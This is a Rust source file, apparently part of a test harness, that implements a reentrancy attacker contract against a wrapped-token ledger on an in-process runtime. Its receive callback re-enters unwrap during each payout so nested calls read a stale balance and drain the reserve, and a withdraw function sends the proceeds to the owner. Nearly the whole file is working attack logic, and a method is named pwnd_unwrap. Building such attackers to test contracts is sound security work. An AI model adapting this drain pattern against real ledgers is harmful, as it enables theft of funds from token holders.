//! Callback-driven drain against a ledger on the in-process runtime
//!
//! The attacker holds some token units and unwraps them. Every payout from
//! the target runs `DrainingReceiver::receive`, which records the lamports
//! and immediately unwraps again while the outer call is still in flight.
//! Against a ledger that pays before it settles, each nested unwrap sees
//! the same stale balance and the reserve drains.

use std::rc::Rc;

use anchor_lang::prelude::*;
use wrapped_token::client::WrappedTokenClient;
use wrapped_token::runtime::{Receiver, Runtime};

use crate::AttackerError;

/// Attacker storage, kept in its runtime account
#[derive(AnchorSerialize, AnchorDeserialize, Clone, Debug, PartialEq, Eq)]
pub struct DrainState {
    pub owner: Pubkey,
    pub target: Pubkey,
    /// Units unwrapped per call, outer and nested alike
    pub amount: u64,
    pub max_reentries: u32,
    /// Nested unwraps attempted during the current attack
    pub reentries: u32,
    /// Lamports received from the target and not yet withdrawn
    pub recorded: u64,
}

struct DrainingReceiver;

impl Receiver for DrainingReceiver {
    fn receive(&self, rt: &mut Runtime, this: Pubkey, from: Pubkey, amount: u64) -> Result<()> {
        let mut state: DrainState = rt.load(&this)?;
        if from != state.target {
            msg!("Accepted {} lamports from {}", amount, from);
            return Ok(());
        }

        state.recorded = state
            .recorded
            .checked_add(amount)
            .ok_or(AttackerError::Overflow)?;

        let target = WrappedTokenClient::at(state.target);
        let reserve = target.reserve(rt);

        if state.reentries >= state.max_reentries || reserve < state.amount {
            msg!("Stopping after {} re-entries, target reserve {}", state.reentries, reserve);
            return rt.store(&this, &state);
        }

        state.reentries += 1;
        let attempt = state.reentries;
        // persist before re-entering so a rejected nested call keeps this receipt
        rt.store(&this, &state)?;

        msg!("Re-entering unwrap({}) - attempt {}", state.amount, attempt);
        if let Err(err) = target.unwrap(rt, this, state.amount) {
            msg!("Re-entry {} rejected: {}", attempt, err);
        }
        Ok(())
    }
}

/// Handle to an attacker deployed on a `Runtime`
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct ReentrancyAttacker {
    address: Pubkey,
}

impl ReentrancyAttacker {
    pub fn deploy(
        rt: &mut Runtime,
        owner: Pubkey,
        target: &WrappedTokenClient,
        max_reentries: u32,
    ) -> Result<Self> {
        let state = DrainState {
            owner,
            target: target.address(),
            amount: 0,
            max_reentries,
            reentries: 0,
            recorded: 0,
        };
        let data = borsh::to_vec(&state).map_err(|_| error!(AttackerError::Overflow))?;
        let address = rt.deploy(Rc::new(DrainingReceiver), data);

        msg!("Attacker {} deployed against {}", address, target.address());
        Ok(Self { address })
    }

    pub fn address(&self) -> Pubkey {
        self.address
    }

    pub fn state(&self, rt: &Runtime) -> Result<DrainState> {
        rt.load(&self.address)
    }

    pub fn recorded(&self, rt: &Runtime) -> Result<u64> {
        Ok(self.state(rt)?.recorded)
    }

    /// Unwrap `amount` of the attacker's own units and let the callback recurse
    pub fn pwnd_unwrap(&self, rt: &mut Runtime, caller: Pubkey, amount: u64) -> Result<()> {
        let address = self.address;
        rt.frame(|rt| {
            let mut state: DrainState = rt.load(&address)?;
            require!(caller == state.owner, AttackerError::Unauthorized);

            state.amount = amount;
            state.reentries = 0;
            rt.store(&address, &state)?;

            WrappedTokenClient::at(state.target).unwrap(rt, address, amount)?;

            let state: DrainState = rt.load(&address)?;
            msg!("Attack finished: {} recorded over {} re-entries", state.recorded, state.reentries);
            Ok(())
        })
    }

    /// Send everything recorded to the owner. Returns the amount paid
    pub fn withdraw(&self, rt: &mut Runtime, caller: Pubkey) -> Result<u64> {
        let address = self.address;
        rt.frame(|rt| {
            let mut state: DrainState = rt.load(&address)?;
            require!(caller == state.owner, AttackerError::Unauthorized);
            require!(state.recorded > 0, AttackerError::NothingToWithdraw);

            let payout = state.recorded;
            state.recorded = 0;
            rt.store(&address, &state)?;
            rt.transfer(address, state.owner, payout)?;

            msg!("Withdrew {} lamports to {}", payout, state.owner);
            Ok(payout)
        })
    }
}
